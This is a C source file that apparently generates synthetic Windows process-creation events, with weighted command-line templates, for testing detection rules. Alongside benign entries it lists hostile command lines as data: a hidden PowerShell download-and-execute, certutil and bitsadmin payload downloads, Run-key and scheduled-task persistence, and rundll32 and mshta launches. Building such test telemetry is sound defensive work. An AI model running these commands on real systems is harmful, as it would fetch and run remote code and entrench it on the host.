/* What happens on the Windows machine of the lanes, in the words of a process creation log. See
 * lane.h. */
#include "lane.h"

/* Program and command line; `weight` of all starts. */
struct start {
    unsigned weight;
    const char *image;
    const char *line;
};

#define SYS "C:\\Windows\\System32\\"

static const struct start starts[] = {
    {60, SYS "svchost.exe", SYS "svchost.exe -k netsvcs -p -s %w%n"},
    {50, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer "
     "--lang=en-US --renderer-client-id=%n "
     "--field-trial-handle=%n,i,%n,262144 --mojo-platform-channel-handle=%n /prefetch:1"},
    {40, "C:\\Users\\%u\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
     "\"C:\\Users\\%u\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility "
     "--utility-sub-type=node.mojom.NodeService --vscode-%w-%h --folder-uri=file:///c%3A/src/%w"},
    {40, "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe status --porcelain=v2 --branch -z"},
    {25, "C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
     "git.exe fetch https://%d/%w/%w.git +refs/heads/*:refs/remotes/origin/* --prune"},
    {30, "C:\\Program Files\\nodejs\\node.exe",
     "\"C:\\Program Files\\nodejs\\node.exe\" C:\\src\\%w\\node_modules\\%w\\bin\\%w.js --port %n"},
    {30, SYS "conhost.exe", "\\??\\" SYS "conhost.exe 0xffffffff -ForceV1"},
    {25, "C:\\Program Files\\Microsoft Visual Studio\\2022\\VC\\Tools\\MSVC\\14.40\\bin\\cl.exe",
     "cl.exe /nologo /c /O2 /W4 /Zi /IC:\\src\\%w\\include /FoC:\\src\\%w\\obj\\%w-%n.obj "
     "C:\\src\\%w\\%f"},
    {15, SYS "taskhostw.exe", "taskhostw.exe /RuntimeWide %h"},
    {15, SYS "SearchProtocolHost.exe", "\"" SYS "SearchProtocolHost.exe\" Global\\UsGthr%n 1 -%n"},
    {15, SYS "backgroundTaskHost.exe", "\"" SYS "backgroundTaskHost.exe\" -ServerName:App.%h.mca"},
    /* administrators and their scripts: what rules look at */
    {40, SYS "cmd.exe", SYS "cmd.exe /c \"dir C:\\src\\%w\\%f & echo %n > C:\\Temp\\%w-%n.log\""},
    {35, SYS "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File C:\\src\\%w\\%w.ps1 "
     "-Number %n"},
    {15, SYS "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell -nop -w hidden -c \"IEX (New-Object "
     "Net.WebClient).DownloadString('https://%d/%w/%n')\""},
    {12, SYS "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -Command \"Get-CimInstance Win32_Process | Where-Object ProcessId -eq %n\""},
    {20, SYS "reg.exe", "reg query HKLM\\Software\\%w\\%w /v Version"},
    {12, SYS "reg.exe",
     "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v %w /d "
     "C:\\Users\\%u\\AppData\\Roaming\\%w-%n.exe /f"},
    {20, SYS "schtasks.exe", "schtasks.exe /query /fo csv /v /tn \\%w\\%w-%n"},
    {10, SYS "schtasks.exe",
     "schtasks /create /tn %w-%n /tr C:\\ProgramData\\%w-%n.exe /sc minute /mo 5 /f"},
    {15, SYS "net.exe", "net view \\\\%w-%n /all"},
    {12, SYS "net1.exe", SYS "net1 user %u /domain"},
    {15, SYS "wbem\\WMIC.exe", "wmic process where \"ProcessId=%n\" get CommandLine /format:list"},
    {15, SYS "rundll32.exe", SYS "rundll32.exe shell32.dll,Control_RunDLL %w%n.cpl"},
    {10, SYS "rundll32.exe", "rundll32.exe C:\\Users\\%u\\AppData\\Local\\Temp\\%w-%n.dll,Start"},
    {12, SYS "whoami.exe", "whoami /all"},
    {12, SYS "tasklist.exe", "tasklist /svc /fi \"PID eq %n\""},
    {10, SYS "certutil.exe", "certutil.exe -hashfile C:\\src\\%w\\%f SHA256"},
    {8, SYS "certutil.exe", "certutil -urlcache -split -f https://%d/%w/%n C:\\Temp\\%w-%n.exe"},
    {10, SYS "sc.exe", "sc.exe query %w%n"},
    {10, SYS "bitsadmin.exe", "bitsadmin /transfer %w%n https://%d/%w C:\\Temp\\%f"},
    {10, SYS "msiexec.exe", SYS "msiexec.exe /i C:\\Users\\%u\\Downloads\\%w-%n.msi /qn"},
    {8, SYS "mshta.exe", "mshta.exe C:\\Users\\%u\\Downloads\\%w-%n.hta"},
    {8, SYS "wevtutil.exe", "wevtutil qe Security /c:%n /rd:true /f:text"},
    {8, SYS "netsh.exe", "netsh advfirewall firewall show rule name=%w%n"},
};

static const char *const parents[][2] = {
    {SYS "services.exe", SYS "services.exe"},
    {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"},
    {SYS "cmd.exe", "\"" SYS "cmd.exe\" /k C:\\src\\%w\\env.cmd"},
    {SYS "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoLogo -NoExit -File %w.ps1"},
    {"C:\\Program Files\\nodejs\\node.exe", "node C:\\src\\%w\\server.js --port %n"},
    {SYS "svchost.exe", SYS "svchost.exe -k netsvcs -p -s Schedule"},
    {"C:\\Users\\%u\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
     "\"C:\\Users\\%u\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\""},
};

static const char *const files[] = {
    "C:\\Users\\%u\\AppData\\Local\\Temp\\%w-%h.tmp",
    "C:\\src\\%w\\obj\\%w-%n.obj",
    "C:\\ProgramData\\%w\\logs\\%w-%n.log",
    "C:\\Users\\%u\\Downloads\\%f",
    "C:\\Windows\\Prefetch\\%w.EXE-%h.pf",
};

static const char *const keys[] = {
    "HKU\\S-1-5-21-%n-%n-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\%w\\%n",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\%w\\%w%n",
    "HKLM\\System\\CurrentControlSet\\Services\\%w%n\\ImagePath",
    "HKU\\S-1-5-21-%n-%n-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\%w",
};

static const struct start *pick_start(struct lane *lane)
{
    static unsigned total;
    if (total == 0) {
        for (unsigned i = 0; i < ARRAY_LEN(starts); i++)
            total += starts[i].weight;
    }
    unsigned at = lane_below(&lane->dice, total);
    const struct start *s = starts;
    while (at >= s->weight)
        at -= s++->weight;
    return s;
}

void lane_windows_act(struct lane *lane, struct lane_act *act)
{
    unsigned kind = lane_below(&lane->dice, 100);
    const struct start *s = pick_start(lane);
    const char *const *parent = parents[lane_below(&lane->dice, ARRAY_LEN(parents))];
    act->kind = kind < 76   ? ACT_EXEC
                : kind < 86 ? ACT_REGISTRY
                : kind < 94 ? ACT_CREATE
                            : ACT_CONNECT;
    act->image = lane_text(lane, s->image);
    act->args[act->args_len++] = lane_text(lane, s->line);
    act->parent_image = lane_text(lane, parent[0]);
    act->parent_line = lane_text(lane, parent[1]);
    act->file = act->kind == ACT_REGISTRY
                    ? lane_text(lane, keys[lane_below(&lane->dice, ARRAY_LEN(keys))])
                    : lane_text(lane, files[lane_below(&lane->dice, ARRAY_LEN(files))]);
    act->user = lane_text(lane, "%u");
    act->home = lane_fmt(lane, "C:\\Users\\%.*s", STR_FMT(act->user));
    act->uid = 1;
    act->pid = (lane_below(&lane->dice, 16000) + 10) * 4;
    act->parent_pid = (lane_below(&lane->dice, 16000) + 10) * 4;
}
